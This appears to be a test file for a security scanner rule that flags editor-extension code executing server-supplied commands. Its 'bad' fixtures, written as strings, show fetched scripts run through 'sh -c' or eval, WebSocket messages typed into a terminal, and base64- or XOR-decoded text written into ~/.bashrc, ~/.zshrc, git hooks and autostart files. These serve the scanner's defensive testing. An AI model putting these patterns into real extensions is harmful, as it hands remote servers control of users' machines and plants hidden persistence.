import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const worst = (files: string | Record<string, string>) => findingsOf(rule, typeof files === 'string' ? { 'a.js': files } : files)[0]?.severity ?? 'nothing';

test('bad: a server says what a host starts or types', () => {
  for (const code of [
    'export async function activate({ network, system }) { const rules = await (await network.fetch("https://flags.example.org")).json(); for (const rule of rules) await system.exec(rule.run, rule.args) }',
    'exports.activate = async (context) => { const { run } = await context.network.fetch(u).then((r) => r.json()); context.system.spawn(run) }',
    'exports.activate = async ({ network, system }) => { const script = await (await network.fetch(u)).text(); await system.exec("sh", ["-c", script]) }',
    'exports.activate = async ({ network, terminal }) => { const line = await (await network.fetch(u)).text(); const [first] = await terminal.list(); terminal.send(first.id, line) }',
    'exports.activate = async ({ network, terminal }) => { const socket = await network.openWebSocket("wss://rooms.example.org"); socket.onMessage((frame) => terminal.send(1, frame)) }',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: programs that are written here, or by users, with data from a server', () => {
  for (const code of [
    'exports.activate = async ({ system, editor }) => system.exec("prettier", ["--write", await editor.path()])',
    'exports.activate = async ({ system, settings }) => system.exec(settings.get("formatter.path"), ["-"])',
    'exports.activate = async ({ network, system }) => { const { clone_url } = await (await network.fetch(u)).json(); await system.exec("git", ["clone", clone_url]) }',
    'exports.activate = async ({ network, system, ui }) => { const news = await (await network.fetch(u)).json(); ui.show(news.title); await system.exec("ruff", ["check"]) }',
    'exports.activate = async ({ terminal }) => terminal.send((await terminal.create()).id, "npm test\\n")',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: another script asks the server', () => {
  const tick = "import { Rollout } from './rollout.js'; export function activate({ network, system }) { const rollout = new Rollout(network); setInterval(async () => { for (const rule of await rollout.refresh()) system.exec(rule.run, rule.args) }, 1e6) }";
  for (const [start, other] of [
    [tick, 'export class Rollout { constructor(network) { this.network = network } async refresh() { const answer = await this.network.fetch("https://flags.example.org/now"); const flags = await answer.json(); return flags.now ?? [] } }'],
    ["const { latest } = require('./rollout.js'); exports.activate = async ({ system, network }) => { const tool = await latest(network); await system.exec(tool.program, []) }", 'exports.latest = async (network) => (await network.fetch("https://flags.example.org/now")).json()'],
    ["import { load } from './rollout.js'; eval(await load())", 'export const load = () => fetch("https://flags.example.org/now").then((r) => r.text())'],
  ] as const) assert.equal(worst({ 'index.js': start, 'rollout.js': other }), 'high', start);
});

test('good: another script asks the server, and what runs is written here', () => {
  const other = 'export const latest = async () => (await (await fetch("https://news.example.org")).json()).version; export const works = async () => (await fetch("https://news.example.org")).ok; export const table = { js: "prettier" }; export const program = (name) => table[name]';
  for (const start of [
    "import { latest, program } from './other.js'; export async function activate({ system, ui }) { ui.show(await latest()); await system.exec(program('js'), ['--write', '.']) }",
    "import { works, table } from './other.js'; export async function activate({ system }) { if (await works()) await system.exec(table.js, []) }",
    "import { latest } from './other.js'; export async function activate({ system }) { await system.exec('npm', ['install', `tool@${await latest()}`]) }",
  ]) assert.equal(worst({ 'index.js': start, 'other.js': other }), 'nothing', start);
});

test('bad: what nobody can read is written where a shell or git runs it', () => {
  for (const code of [
    'exports.activate = async ({ filesystem, home = "~" }) => { const line = points.map(([x, y]) => String.fromCharCode(x ^ y)).join(""); for (const edge of [`${home}/.bashrc`, ".git/hooks/pre-commit"]) await filesystem.append(edge, `\\n${line}\\n`) }',
    'exports.activate = async ({ filesystem, network }) => filesystem.writeText(".git/hooks/post-checkout", await (await network.fetch(u)).text())',
    'exports.activate = async (host) => { const files = host.filesystem; await files.writeText(`${root}/.git/hooks/pre-push`, atob(kept)) }',
    'const fs = require("fs"); fs.appendFileSync(require("os").homedir() + "/.zshrc", Buffer.from(text, "base64").toString())',
    'const fs = require("fs"); fs.writeFileSync(home + "/.config/autostart/x.desktop", Buffer.from(text, "base64").toString())',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: hooks and lines that everybody can read, and decoded text elsewhere', () => {
  for (const code of [
    'exports.activate = async ({ filesystem, commands }) => commands.register("hooks", () => filesystem.writeText(".git/hooks/pre-commit", "#!/bin/sh\\nnpx lint-staged\\n"))',
    'exports.activate = async ({ filesystem, settings }) => filesystem.writeText(".git/hooks/commit-msg", `#!/bin/sh\\n${settings.get("hook.command")}\\n`)',
    'exports.activate = async ({ filesystem }) => { if (!(await filesystem.readText("~/.bashrc")).includes("ours")) await filesystem.append("~/.bashrc", "eval \\"$(ours init)\\"\\n") }',
    'exports.activate = async ({ filesystem, network }) => filesystem.write("assets/icon.png", await (await network.fetch(u)).arrayBuffer())',
    'exports.activate = async ({ filesystem }) => filesystem.writeText("out/git/hooks.md", atob(text))',
  ]) assert.equal(worst(code), 'nothing', code);
});
